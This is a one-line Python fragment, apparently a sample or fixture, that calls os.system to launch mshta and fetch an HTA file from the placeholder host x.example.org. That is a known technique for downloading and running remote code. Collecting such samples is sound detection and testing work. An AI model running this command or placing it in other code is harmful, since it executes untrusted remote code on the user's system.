os.system("mshta http://x.example.org/a.hta")
